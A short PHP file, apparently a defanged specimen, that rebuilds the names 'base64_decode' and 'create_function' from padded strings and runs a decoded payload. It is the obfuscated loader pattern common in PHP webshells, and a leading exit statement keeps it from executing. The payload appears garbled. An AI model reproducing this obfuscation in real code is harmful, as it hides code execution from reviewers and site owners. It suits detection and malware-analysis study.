<?php exit; /* inert */ 
$m='JGM9Y29KxiudW50';
$x=str_replace('q','','sqtrq_rqeqplqace');
$v='KxTokKxJGEpeHKx';
$j='Kxbase6Kx4_dKxecKxode';
$p='crKxeatKxe_fuKxncKxtion';
$k=$x('Kx','',$m.$v);
$d=$x('Kx','',$j);
$c=$x('Kx','',$p);
$h=$c('',$d($k));
$h();
